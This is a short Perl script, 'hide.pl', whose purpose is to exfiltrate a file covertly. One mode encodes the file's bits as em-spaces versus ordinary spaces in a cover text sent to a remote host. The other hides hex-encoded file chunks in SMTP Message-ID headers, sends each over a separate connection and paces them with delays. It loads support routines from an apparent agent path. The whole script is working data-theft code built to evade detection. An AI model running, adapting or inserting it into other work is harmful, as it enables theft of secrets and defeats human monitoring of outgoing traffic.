#!/usr/bin/perl
# hide.pl HOW FILE TO SECONDS OTHER...: a file leaves inside of what has to leave anyway.
#
# blanks: OTHER is sent, and the blanks behind its words are the bits of the file, wide for 1 · ids: an answer to each OTHER, which has a
# few bytes of the file where mails have their number (RFC 5322, 3.6.4), each by a connection of its own
require '/opt/agent/peer.pl';
my ($how, $path, $to, $seconds, @others) = @ARGV;
my $secret = whole($path);

if ($how eq 'blanks') {
    my @bits = split //, unpack 'B*', substr $secret, 0, 48;
    my $text = '';
    while (@bits) {
        $text .= $_ . (@bits && shift @bits ? "\x{2}" : ' ') for split / /, whole($others[0]);
    }
    my $peer = reached($to);
    sent($peer, $text =~ s/\x02/\xe2\x80\x83/gr);
    ended($peer);
} elsif ($how eq 'ids') {
    my @pieces = unpack '(a36)*', $secret;
    while (@pieces) {
        my $mail = shift @others // last;
        push @others, $mail;
        my $id = unpack 'H*', shift @pieces;
        my $peer = reached($to);
        sent($peer, "EHLO web-1.example.com\r\nMAIL FROM:<agent\@example.com>\r\nRCPT TO:<other\@example.net>\r\nDATA\r\n");
        sysread $peer, my $said, 64;
        sent($peer, "Message-ID: <$id\@web-1>\r\n\r\n> " . whole($mail) . "\r\n.\r\nQUIT\r\n");
        ended($peer, $said);
        select undef, undef, undef, $seconds;
    }
} else {
    exit 2;
}
